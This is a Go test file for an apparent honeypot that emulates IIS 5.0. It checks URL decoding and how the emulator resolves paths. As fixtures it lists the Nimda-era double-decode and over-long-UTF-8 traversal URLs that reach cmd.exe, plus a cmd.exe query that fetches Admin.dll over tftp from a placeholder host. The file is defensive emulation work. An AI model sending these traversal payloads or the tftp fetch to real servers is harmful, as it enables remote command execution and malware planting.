package http

import (
	"testing"
	"time"

	"github.com/smallpot/smallpot/internal/service"
)

func TestPercentDecode(t *testing.T) {
	for _, tt := range []struct {
		in   string
		u    bool
		want string
	}{
		{"a%20b", false, "a b"},
		{"%255c", false, "%5c"},
		{"%%35%63", false, "%5c"},
		{"%%35c", false, "%5c"},
		{"%25%35%63", false, "%5c"},
		{"%zz%4", false, "%zz%4"},
		{"%c0%af", false, "\xc0\xaf"},
		{"%u002f%u00e9", true, "/é"},
		{"%u002f", false, "%u002f"},
		{"%u12", true, "%u12"},
	} {
		if got := percentDecode(tt.in, tt.u); got != tt.want {
			t.Errorf("percentDecode(%q, %v) = %q, want %q", tt.in, tt.u, got, tt.want)
		}
	}
}

func TestOverlong(t *testing.T) {
	for _, tt := range []struct {
		in     string
		want   string
		hidden int
	}{
		{"\xc0\xaf", "/", 1},
		{"\xc0\x2f", "/", 1},
		{"\xc1\x1c", `\`, 1},
		{"\xc1\x9c", `\`, 1},
		{"\xe0\x80\xaf", "/", 1},
		{"\xc3\xa9", "\xc3\xa9", 0}, // é is not over-long: kept
		{"a/b", "a/b", 0},
	} {
		cs := overlong(tt.in)
		got, hidden := segment(cs).String(), 0
		for _, c := range cs {
			if c.hidden {
				hidden++
			}
		}
		if got != tt.want || hidden != tt.hidden {
			t.Errorf("overlong(%q) = %q with %d hidden, want %q with %d", tt.in, got, hidden, tt.want, tt.hidden)
		}
	}
}

// Every traversal form Nimda tried reaches cmd.exe on an unpatched
// IIS 5.0, and a plain "../" does not get past the check.
func TestDecodeIISTraversals(t *testing.T) {
	p, err := newIIS(DefaultConfig(service.ProfileWindows2000))
	if err != nil {
		t.Fatal(err)
	}
	cmd := `c:\winnt\system32\cmd.exe`
	for _, tt := range []struct {
		raw     string
		phys    string
		program bool
		climbs  bool
	}{
		{"/scripts/..%255c../winnt/system32/cmd.exe", cmd, true, false},
		{"/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe", cmd, true, false},
		{"/_mem_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe", cmd, true, false},
		{"/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe", cmd, true, false},
		{"/scripts/..%c1%1c../winnt/system32/cmd.exe", cmd, true, false},
		{"/scripts/..%c0%2f../winnt/system32/cmd.exe", cmd, true, false},
		{"/scripts/..%c0%af../winnt/system32/cmd.exe", cmd, true, false},
		{"/scripts/..%c1%9c../winnt/system32/cmd.exe", cmd, true, false},
		{"/scripts/..%%35%63../winnt/system32/cmd.exe", cmd, true, false},
		{"/scripts/..%%35c../winnt/system32/cmd.exe", cmd, true, false},
		{"/scripts/..%25%35%63../winnt/system32/cmd.exe", cmd, true, false},
		{"/scripts/..%252f../winnt/system32/cmd.exe", cmd, true, false},
		{"/c/winnt/system32/cmd.exe", cmd, true, false},
		{"/MSADC/root.exe", `c:\program files\common files\system\msadc\root.exe`, true, false},
		{"/scripts/..%255c../Admin.dll", `c:\admin.dll`, true, false},
		// The check sees these.
		{"/scripts/../../winnt/system32/cmd.exe", `c:\inetpub\wwwroot\winnt\system32\cmd.exe`, false, true},
		{"/scripts/..%5c../winnt/system32/cmd.exe", `c:\inetpub\wwwroot\winnt\system32\cmd.exe`, false, true},
		// A traversal outside an executable directory gets no second
		// decode: the path stays in the site (and Windows drops the
		// trailing dots of "..%5c..").
		{"/iishelp/..%255c../winnt/win.ini", `c:\winnt\help\iishelp\..%5c\winnt\win.ini`, false, false},
		// Plain paths.
		{"/scripts/../iisstart.htm", `c:\inetpub\wwwroot\iisstart.htm`, false, false},
		{"/iisstart.htm.", `c:\inetpub\wwwroot\iisstart.htm`, false, false},
		{"/a%20b/", `c:\inetpub\wwwroot\a b`, false, false},
	} {
		got := decodeIIS(tt.raw, p.vdirs)
		if ph := physString(got.phys); ph != tt.phys || got.program != tt.program || got.climbs != tt.climbs {
			t.Errorf("%s:\n got %s program=%v climbs=%v\nwant %s program=%v climbs=%v",
				tt.raw, ph, got.program, got.climbs, tt.phys, tt.program, tt.climbs)
		}
	}
}

func TestDecodeIISURL(t *testing.T) {
	p, _ := newIIS(DefaultConfig(service.ProfileWindows2000))
	for _, tt := range []struct{ raw, url string }{
		{"/scripts/..%c0%af../winnt/system32/cmd.exe", "/scripts/../../winnt/system32/cmd.exe"},
		{"/scripts/..%255c../winnt/system32/cmd.exe", `/scripts/..\../winnt/system32/cmd.exe`},
		{"/a/./b/../c/", "/a/c/"},
		{"/", "/"},
		{"/Scripts", "/Scripts"},
	} {
		if got := decodeIIS(tt.raw, p.vdirs).url; got != tt.url {
			t.Errorf("%s: url %q, want %q", tt.raw, got, tt.url)
		}
	}
}

// ETags as IIS 5.0 wrote them, from real responses.
func TestIISETag(t *testing.T) {
	for _, tt := range []struct {
		t      time.Time
		change int
		want   string
	}{
		{time.Date(2003, 3, 12, 15, 5, 54, 0, time.UTC), 0x903, `"0f597e0a8e8c21:903"`},
		{time.Date(2003, 2, 21, 22, 41, 28, 807142400, time.UTC), 0xaea, `"0458f5ffad9c21:aea"`},
	} {
		if got := iisETag(tt.t, tt.change); got != tt.want {
			t.Errorf("iisETag(%v) = %s, want %s", tt.t, got, tt.want)
		}
	}
}

func TestCGIArgs(t *testing.T) {
	for _, tt := range []struct{ q, want string }{
		{"/c+dir+c:\\", `/c dir c:\`},
		{"/c+tftp%20-i%201.2.3.4%20GET%20Admin.dll", "/c tftp -i 1.2.3.4 GET Admin.dll"},
		{"/c+echo+a%2bb", "/c echo a+b"},
		{"a=b", ""},
		{"", ""},
	} {
		if got := cgiArgs(tt.q); got != tt.want {
			t.Errorf("cgiArgs(%q) = %q, want %q", tt.q, got, tt.want)
		}
	}
	for _, tt := range []struct {
		args, line string
		ok         bool
	}{
		{"/c dir", "dir", true},
		{"/C  dir c:\\", `dir c:\`, true},
		{"/k ver", "ver", true},
		{`/c"dir"`, `"dir"`, true},
		{"/cdir", "", false},
		{"dir", "", false},
	} {
		line, ok := slashC(tt.args)
		if line != tt.line || ok != tt.ok {
			t.Errorf("slashC(%q) = %q %v, want %q %v", tt.args, line, ok, tt.line, tt.ok)
		}
	}
}

func TestFormLogin(t *testing.T) {
	r := &Request{URI: "/goform/formLogin", Body: []byte("username=ad+min&password=p%40ss&x=1")}
	l := formLogin(r)
	if l == nil || l.User != "ad min" || l.Password != "p@ss" || l.Method != "form" {
		t.Fatalf("got %+v", l)
	}
	if formLogin(&Request{URI: "/goform/formLogin", Body: []byte("a=b")}) != nil {
		t.Error("a form without credential fields gave a login")
	}
	if l := formLogin(&Request{URI: "/goform/formLogin?user=root&pwd=x"}); l == nil || l.User != "root" || l.Password != "x" {
		t.Errorf("query credentials: %+v", l)
	}
}

// BenchmarkDecodeIIS decodes a Nimda traversal.
func BenchmarkDecodeIIS(b *testing.B) {
	p, _ := newIIS(DefaultConfig(service.ProfileWindows2000))
	b.ReportAllocs()
	for b.Loop() {
		decodeIIS("/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe", p.vdirs)
	}
}
